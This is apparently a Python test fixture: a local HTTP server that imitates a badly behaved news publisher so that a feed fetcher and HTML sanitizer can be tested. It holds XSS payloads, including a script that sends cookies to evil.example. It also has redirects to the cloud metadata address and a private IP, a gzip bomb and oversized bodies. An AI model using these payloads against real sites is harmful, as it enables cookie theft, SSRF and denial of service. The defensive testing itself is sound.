"""A local publisher that misbehaves in every way a real one does, for the bad-source tests.

One well-behaved outlet (an RSS feed and two article pages under ``/good/``) shares the server
with broken feeds, error statuses, a response that never comes, endless bodies, redirect loops,
mislabelled charsets and hostile article pages. Everything is served from 127.0.0.1 on a free
port; nothing reaches the internet.
"""

from __future__ import annotations

import threading
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType

RSS_TYPE = "application/rss+xml; charset=utf-8"
HTML_TYPE = "text/html; charset=utf-8"
HUGE_BYTES = 50 * 1024 * 1024
_CHUNK = 64 * 1024
# The never-answering route gives up after this long, so a test that forgot its timeout fails
# instead of hanging; the fetcher's own timeout is far shorter.
_STALL_LIMIT = 30.0

GOOD_ARTICLES = {
    "/good/harbour-reopens.html": (
        "Harbour reopens after storm repairs",
        [
            "The regional port authority reopened the harbour at Port Evren on Tuesday, three "
            "months after a winter storm tore a forty-metre hole in its sea wall.",
            "Repairs cost 12 million euros and were finished two weeks ahead of schedule, the "
            "authority said, after crews worked through calm nights in February.",
            "Fishing families who spent the winter driving to Calder Bay said the reopening "
            "ended the hardest season many of them could remember.",
        ],
    ),
    "/good/library-vote.html": (
        "Council votes to keep the old library open",
        [
            "Councillors in Marsden voted eleven to four on Monday night to keep the town's "
            "Victorian library open, reversing a plan to sell the building to developers.",
            "Campaigners had collected more than six thousand signatures and staged a reading "
            "marathon on the library steps that lasted three days and two nights.",
            "The council will now look for a partner to run a café on the ground floor and "
            "rent the upper rooms to community groups to cover the running costs.",
        ],
    ),
}

# Hostile article pages: a real article wrapped in everything a sanitizer must remove.
HOSTILE_PAGES = {
    "script": '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<p>Inline <script src="https://evil.example/x.js"></script>scripts sit in the body.</p>',
    "event-handlers": '<p onclick="steal()" onmouseover="steal()">Handlers on paragraphs.</p>'
    '<img src="/pic.jpg" onerror="steal()" alt="A picture">'
    '<p><a href="/more" onfocus="steal()">A link with a handler</a>.</p>',
    "javascript-links": '<p>Read <a href="javascript:steal()">this link</a> and '
    '<a href=" JaVaScRiPt:steal()">that one</a> and <a href="jav&#x09;ascript:x()">a third</a>.'
    "</p>",
    "data-links": '<p>See <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
    'the data link</a> and <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">.</p>',
    "svg": '<svg onload="steal()"><script>steal()</script><a xlink:href="javascript:x()">'
    "<text>svg link</text></a></svg><p>An inline SVG sits above this paragraph.</p>"
    '<p><img src="/logo.svg" alt="logo"></p>',
}
HOSTILE_FEED_CONTENT = (
    '<p onclick="steal()">The feed carries the whole story.</p><script>steal()</script>'
    '<p><a href="javascript:steal()">A javascript link</a> and an '
    '<iframe src="https://evil.example/"></iframe>.</p>'
    "<svg><script>steal()</script></svg><p>Another paragraph of the story follows here.</p>"
)
# UTF-8 bytes served under an ISO-8859-1 label: decoded as labelled they turn into mojibake.
LATIN1_TITLE = "Zürich café reopens — a naïve façade, “restored”"
LATIN1_TEXT = "Herr Müller said the façade of the café on the Straße was restored by hand."

Route = Callable[["_Handler"], None]


@dataclass(frozen=True, slots=True)
class Reply:
    """A fixed response."""

    status: int = 200
    body: bytes = b""
    content_type: str = HTML_TYPE
    location: str | None = None


def rss(base: str, items: list[tuple[str, str, str]], extra_item_xml: str = "") -> bytes:
    """An RSS 2.0 feed of (title, link, description) items."""
    entries = "".join(
        f"<item><title>{title}</title><link>{base}{link}</link><guid>{base}{link}</guid>"
        f"<description>{description}</description>"
        f"<pubDate>Tue, 24 Nov 2026 08:00:00 GMT</pubDate>{extra_item_xml}</item>"
        for title, link, description in items
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><title>Outlet</title><link>{base}/</link><description>News</description>"
        f"{entries}</channel></rss>"
    ).encode()


def article_page(title: str, body_html: str) -> bytes:
    """A plain publisher page: header and footer around one <article>."""
    return (
        "<!doctype html><html><head><meta charset='utf-8'>"
        f"<title>{title}</title></head><body><header><nav><a href='/'>Home</a></nav></header>"
        f"<article><h1>{title}</h1>{body_html}</article>"
        "<footer>© Outlet. All rights reserved.</footer></body></html>"
    ).encode()


def _padding(topic: str) -> str:
    """Enough ordinary prose around hostile markup for the page to count as an article."""
    sentences = [
        f"Residents gathered on Tuesday to talk about {topic} at the town hall.",
        "The mayor said the council would publish a full report before the end of the month.",
        "Several speakers asked for the meeting to be repeated in the evening for workers.",
    ]
    return "".join(f"<p>{sentence}</p>" for sentence in sentences)


class HostileServer:
    """Serve the routes on 127.0.0.1:<free port> in a daemon thread (a context manager)."""

    def __init__(self) -> None:
        self.release = threading.Event()
        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
        self._httpd.daemon_threads = True
        self._httpd.routes = self._routes()  # type: ignore[attr-defined]
        self._httpd.release = self.release  # type: ignore[attr-defined]
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)

    def __enter__(self) -> HostileServer:
        self._thread.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.release.set()
        self._httpd.shutdown()
        self._httpd.server_close()

    @property
    def base(self) -> str:
        host, port = self._httpd.server_address[:2]
        return f"http://{host}:{port}"

    def url(self, path: str) -> str:
        return f"{self.base}{path}"

    def _routes(self) -> dict[str, Reply | Route]:
        base = self.base
        routes: dict[str, Reply | Route] = {
            "/robots.txt": Reply(body=b"User-agent: *\nAllow: /\n", content_type="text/plain"),
            **self._good_routes(base),
            **self._broken_feed_routes(base),
            **self._hostile_page_routes(base),
        }
        return routes

    @staticmethod
    def _good_routes(base: str) -> dict[str, Reply | Route]:
        items = [(title, path, paras[0]) for path, (title, paras) in GOOD_ARTICLES.items()]
        routes: dict[str, Reply | Route] = {
            "/good/feed.xml": Reply(body=rss(base, items), content_type=RSS_TYPE)
        }
        for path, (title, paragraphs) in GOOD_ARTICLES.items():
            body = "".join(f"<p>{paragraph}</p>" for paragraph in paragraphs)
            routes[path] = Reply(body=article_page(title, body))
        return routes

    @staticmethod
    def _broken_feed_routes(base: str) -> dict[str, Reply | Route]:
        latin1_type = "application/rss+xml; charset=ISO-8859-1"
        latin1_feed = rss(base, [(LATIN1_TITLE, "/latin1/article.html", LATIN1_TEXT)])
        latin1_page = article_page(LATIN1_TITLE, _padding("the café") + f"<p>{LATIN1_TEXT}</p>")
        return {
            "/bad/broken.xml": Reply(
                body=b'<?xml version="1.0"?><rss version="2.0"><channel><title>Half',
                content_type=RSS_TYPE,
            ),
            "/bad/html-as-feed.xml": Reply(
                body=article_page("Not a feed", "<p>This is a web page.</p>")
            ),
            "/bad/empty-body.xml": Reply(content_type=RSS_TYPE),
            "/bad/no-items.xml": Reply(body=rss(base, []), content_type=RSS_TYPE),
            "/bad/404.xml": Reply(status=404, body=b"Not Found"),
            "/bad/410.xml": Reply(status=410, body=b"Gone"),
            "/bad/500.xml": Reply(status=500, body=b"Internal Server Error"),
            "/bad/stall.xml": _stall,
            "/bad/huge-declared.xml": _huge(declare_length=True),
            "/bad/huge-streamed.xml": _huge(declare_length=False),
            "/bad/gzip-bomb.xml": _gzip_bomb,
            "/bad/loop-a.xml": Reply(status=302, location="/bad/loop-b.xml"),
            "/bad/loop-b.xml": Reply(status=301, location=f"{base}/bad/loop-a.xml"),
            **{
                f"/bad/chain-{n}.xml": Reply(status=307, location=f"/bad/chain-{n + 1}.xml")
                for n in range(20)
            },
            "/bad/to-metadata.xml": Reply(
                status=302, location="http://169.254.169.254/latest/meta-data/"
            ),
            "/bad/to-private.xml": Reply(status=301, location="http://10.0.0.1/feed.xml"),
            "/bad/latin1-label.xml": Reply(body=latin1_feed, content_type=latin1_type),
            "/latin1/article.html": Reply(
                body=latin1_page.replace(b"<meta charset='utf-8'>", b""),
                content_type="text/html; charset=ISO-8859-1",
            ),
        }

    @staticmethod
    def _hostile_page_routes(base: str) -> dict[str, Reply | Route]:
        routes: dict[str, Reply | Route] = {}
        for kind, markup in HOSTILE_PAGES.items():
            title = f"Town hall meeting ({kind})"
            page = f"/hostile/{kind}.html"
            body = _padding(f"the {kind} plan") + markup + _padding("parking")
            routes[page] = Reply(body=article_page(title, body))
            feed = rss(base, [(title, page, "A hostile page.")])
            routes[f"/bad/hostile-{kind}.xml"] = Reply(body=feed, content_type=RSS_TYPE)
        content = f"<content:encoded><![CDATA[{HOSTILE_FEED_CONTENT}]]></content:encoded>"
        routes["/bad/hostile-feed-content.xml"] = Reply(
            body=rss(base, [("Story told in the feed", "/gone/story.html", "")], content),
            content_type=RSS_TYPE,
        )
        routes["/bad/item-to-metadata.xml"] = Reply(
            body=rss(
                "http://169.254.169.254",
                [("Item aimed at the metadata service", "/latest/meta-data/", "Summary.")],
            ),
            content_type=RSS_TYPE,
        )
        return routes


class _Handler(BaseHTTPRequestHandler):
    server: ThreadingHTTPServer

    def do_GET(self) -> None:
        route = self.server.routes.get(self.path.split("?", 1)[0])  # type: ignore[attr-defined]
        if route is None:
            route = Reply(status=404, body=b"Not Found")
        try:
            if isinstance(route, Reply):
                self._reply(route)
            else:
                route(self)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the fetcher hung up (size limit, timeout): that is the point

    def _reply(self, reply: Reply) -> None:
        self.send_response(reply.status)
        self.send_header("Content-Type", reply.content_type)
        self.send_header("Content-Length", str(len(reply.body)))
        if reply.location:
            self.send_header("Location", reply.location)
        self.end_headers()
        self.wfile.write(reply.body)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet: the tests assert on what the pipeline recorded, not on the access log."""


def _stall(handler: _Handler) -> None:
    """Accept the request and never answer (until the server shuts down)."""
    handler.server.release.wait(_STALL_LIMIT)  # type: ignore[attr-defined]


def _huge(*, declare_length: bool) -> Route:
    def send(handler: _Handler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", RSS_TYPE)
        if declare_length:
            handler.send_header("Content-Length", str(HUGE_BYTES))
        handler.end_headers()
        for chunk in _huge_chunks():
            handler.wfile.write(chunk)

    return send


def _huge_chunks() -> Iterator[bytes]:
    """50 MB of feed items, made as they are sent: never held in memory."""
    item = b"<item><title>Spam</title><link>http://127.0.0.1/spam</link></item>"
    chunk = b'<?xml version="1.0"?><rss version="2.0"><channel>' + item * (_CHUNK // len(item))
    yield chunk
    sent = len(chunk)
    filler = item * (_CHUNK // len(item))
    while sent < HUGE_BYTES:
        yield filler
        sent += len(filler)


def _gzip_bomb(handler: _Handler) -> None:
    """A small gzip body that inflates to 50 MB, compressed as it is sent."""
    handler.send_response(200)
    handler.send_header("Content-Type", RSS_TYPE)
    handler.send_header("Content-Encoding", "gzip")
    handler.end_headers()
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    for chunk in _huge_chunks():
        handler.wfile.write(compressor.compress(chunk))
    handler.wfile.write(compressor.flush())
